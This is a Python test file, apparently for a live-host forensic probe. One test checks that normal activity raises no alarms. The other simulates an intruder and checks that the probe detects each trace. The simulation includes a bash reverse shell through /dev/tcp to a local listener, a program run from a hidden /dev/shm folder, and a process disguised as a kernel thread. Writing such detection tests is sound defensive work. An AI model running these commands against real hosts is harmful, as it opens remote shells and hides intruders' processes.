"""The probe on a running host: one that is busy with everyday things accuses nobody, and what an intruder left running on it is found."""
import json
import os
import pathlib
import shutil
import socket
import subprocess

from live_case import TESTS, LiveCase
from scenarios import abuse
from stage import web
from stage.network import PROVIDER, VISITORS
from waiting import wait_for

PROBE = TESTS.parent / "build/release/bin/rescue-probe"
FOLDER = "var/tmp/.rescue-test"
UPDATED = ("/usr/sbin/cron", "/usr/sbin/sshd", "/usr/sbin/apache2", "/usr/lib/postfix/sbin/master", "/usr/lib/x86_64-linux-gnu/libc.so.6")


class EvidenceTest(LiveCase):
    roles = ("mail", "gallery")
    systemd = True

    def look(self):
        """The document, as root over SSH from where the services run."""
        folder = pathlib.Path(self.host.root) / FOLDER
        folder.mkdir(exist_ok=True)
        os.chmod(folder, 0o700)
        shutil.copy(PROBE, folder / "rescue-probe")
        done = self.host.log_in("root", f"cd / && /{FOLDER}/rescue-probe investigate --root / --live --out /{FOLDER}/out.json")
        self.assertTrue(done.opened, done)
        document = json.loads((folder / "out.json").read_text())
        shutil.rmtree(folder)
        return document

    def sit_at_a_terminal(self, user):
        """A log-in with a terminal, which stays; it ends with the test."""
        options = ("-tt", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR")
        sitting = subprocess.Popen(["ssh", *options, "-i", str(self.host.keys[user].private), f"{user}@{self.host.address}", "echo here; cat"],
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.addCleanup(lambda: (sitting.stdin.close(), sitting.stdout.close(), sitting.kill(), sitting.wait()))
        self.assertIn(b"here", sitting.stdout.readline())

    def start(self, command):
        """Something that goes on running on the host."""
        self.host.shell(f"setsid sh -c {command!r} >/dev/null 2>&1 </dev/null &")

    def test_1_a_busy_host_right_after_an_update_accuses_nobody(self):
        abuse.usual_mail(self.host, 20)
        for visitor in VISITORS[:5]:
            web.request(visitor, "/", host=self.host.address)
        # As dpkg does it: the new file takes the old one's name.
        for path in UPDATED:
            self.host.shell(f"cp -a {path} {path}.dpkg-new && mv {path}.dpkg-new {path}")
        self.sit_at_a_terminal("ops")
        document = self.look()
        told = [finding for finding in document["findings"] if finding["severity"] != "info"]
        self.assertEqual(told, [])
        self.assertEqual(document["verdict"]["intrusion"]["state"], "none_found")
        self.assertIn("live.replaced_program", [finding["rule"] for finding in document["findings"]])
        live_part = document["live"]
        self.assertIn("ops", [login["account"] for login in live_part["logins"]])
        ours = {process["name"] for process in live_part["processes"] if process.get("ours")}
        self.assertLessEqual({"sshd", "rescue-probe"}, ours)
        listeners = {(listener["port"], listener["package"]) for listener in live_part["listeners"]}
        self.assertLessEqual({(22, "openssh-server"), (25, "postfix"), (80, "apache2-bin"), (143, "dovecot-core")}, listeners)

    def test_2_what_an_intruder_left_running_is_found(self):
        with socket.create_server((PROVIDER, 0)) as far_away:
            self.host.shell("mkdir -p /dev/shm/.x && cp /usr/bin/sleep /dev/shm/.x/run && cp /usr/bin/sleep /opt/run")
            self.start("/dev/shm/.x/run 600")
            self.start("exec bash -c \"exec -a [kworker/1:2] /opt/run 600\"")
            self.start(f"exec bash -c \"exec bash --norc -i <>/dev/tcp/{PROVIDER}/{far_away.getsockname()[1]} >&0 2>&0\"")
            shell, _ = far_away.accept()
            with shell:
                wait_for("the shell", lambda: shell.recv(64))
                self.host.shell("rm -r /dev/shm/.x")
                document = self.look()
        found = {finding["rule"]: finding for finding in document["findings"] if finding["severity"] in ("high", "critical")}
        self.assertEqual(set(found), {"live.deleted_odd_program", "live.kernel_thread_name", "live.reverse_shell"})
        self.assertEqual(found["live.reverse_shell"]["address"], PROVIDER)
        self.assertEqual(document["verdict"]["intrusion"]["state"], "confirmed")
